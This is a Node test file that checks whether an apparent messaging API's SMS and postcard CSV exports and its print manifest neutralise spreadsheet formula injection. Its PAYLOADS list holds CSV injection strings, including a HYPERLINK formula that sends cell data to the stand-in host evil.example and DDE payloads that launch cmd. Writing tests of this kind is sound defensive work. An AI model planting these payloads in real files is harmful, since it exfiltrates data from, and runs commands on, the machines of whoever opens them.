import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { TestServer } from '../helpers/server.js';
import { postcardPdf, recipient, waitFor, type FileServer } from '../helpers/post.js';
import { startPostSuite } from '../helpers/post-suite.js';
import { mobile, sendSms } from '../helpers/sms.js';

/** RFC 4180, enough for these files: quoted fields with commas, quotes, tabs and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\n') row.push(field), rows.push(row), (row = []), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') continue;
    else field += c;
  }
  if (field !== '' || row.length) row.push(field), rows.push(row);
  return rows;
}

/** What a spreadsheet would run, one per dangerous first character (OWASP's list). */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", '\t=1+1', '\r=1+1'];

async function download(url: string): Promise<string[][]> {
  const res = await fetch(url);
  assert.equal(res.status, 200, url);
  return parseCsv(await res.text());
}

describe('CSV cells that a spreadsheet would run as formulas', () => {
  let s: TestServer;
  let files: FileServer;
  let ra: number;
  before(async () => {
    ({ s, files, ra } = await startPostSuite({ '/card.pdf': await postcardPdf() }));
  });
  after(async () => {
    await s.close();
    await files.close();
  });

  it('come back with a leading quote in the SMS history export; numbers and E.164 numbers stay as they are', async () => {
    const messages = PAYLOADS.map((p, i) => ({ to: mobile(i), body: p, custom_string: p }));
    const sent = await sendSms(s, messages);
    assert.equal(sent.status, 200, JSON.stringify(sent.body));
    const r = await s.request('GET', '/v3/sms/history/export?filename=sms.csv');
    assert.equal(r.status, 200);
    const [header, ...rows] = await download(r.body.data.url);
    const col = (name: string) => header!.indexOf(name);
    assert.equal(rows.length, PAYLOADS.length);
    for (const p of PAYLOADS) {
      const row = rows.find((x) => x[col('body')] === `'${p}`);
      assert.ok(row, `body ${JSON.stringify(p)} neutralised`);
      assert.equal(row[col('custom_string')], `'${p}`);
      assert.match(row[col('to')]!, /^\+614\d{8}$/, 'a phone number is a plain number: no quote');
      assert.match(row[col('message_price')]!, /^\d+\.\d+$/);
    }
  });

  it('come back with a leading quote in the postcard history export and in the print manifest', async () => {
    // Post trims address fields, so TAB and CR are tried where nothing trims them: custom_string.
    const names = PAYLOADS.filter((p) => !/^[\t\r]/.test(p));
    const recipients = names.map((name, i) => recipient(ra, { address_name: name, custom_string: PAYLOADS[i + 4] ?? PAYLOADS[i] }));
    const r = await s.request('POST', '/v3/post/postcards/send', { body: { file_urls: [files.url('/card.pdf')], recipients } });
    assert.equal(r.status, 200, JSON.stringify(r.body));
    const ids: string[] = r.body.data.recipients.map((x: { message_id: string }) => x.message_id);

    const exp = await s.request('GET', '/v3/post/postcards/history/export?filename=cards.csv');
    assert.equal(exp.status, 200);
    const [header, ...rows] = await download(exp.body.data.url);
    const col = (name: string) => header!.indexOf(name);
    for (const [i, name] of names.entries()) {
      const row = rows.find((x) => x[col('message_id')] === ids[i]);
      assert.ok(row, ids[i]);
      assert.equal(row[col('address_name')], `'${name}`);
      assert.equal(row[col('custom_string')], `'${PAYLOADS[i + 4] ?? PAYLOADS[i]}`);
      assert.equal(row[col('post_price')], '2.950000', 'a price stays a number');
    }

    const sentAt = await waitFor('all Sent', async () => {
      const items = await Promise.all(ids.map((id) => s.services.postcards.repo.findByMessageId(id)));
      return items.every((x) => x?.status === 'Sent') ? Number(items[0]!.sent_at) : undefined;
    });
    const day = new Date(sentAt * 1000).toISOString().slice(0, 10);
    const [mHeader, ...lines] = parseCsv(fs.readFileSync(path.join(s.dataDir, 'print', day, 'manifest.csv'), 'utf8'));
    assert.deepEqual(mHeader, [
      'message_id',
      'recipient',
      'return_address',
      'country',
      'file',
      'price',
      'currency',
      'product',
      'pages',
      'options',
      'size',
      'trim_mm',
      'bleed_mm',
      'media_mm',
      'sha256',
    ]);
    for (const [i, name] of names.entries()) {
      const line = lines.find((x) => x[0] === ids[i]);
      assert.ok(line, ids[i]);
      assert.equal(line[1], `'${name}, 130 Scheuvront Drive, PERTH WA 6000, AU`);
      assert.equal(line[5], '2.9500');
    }
  });
});
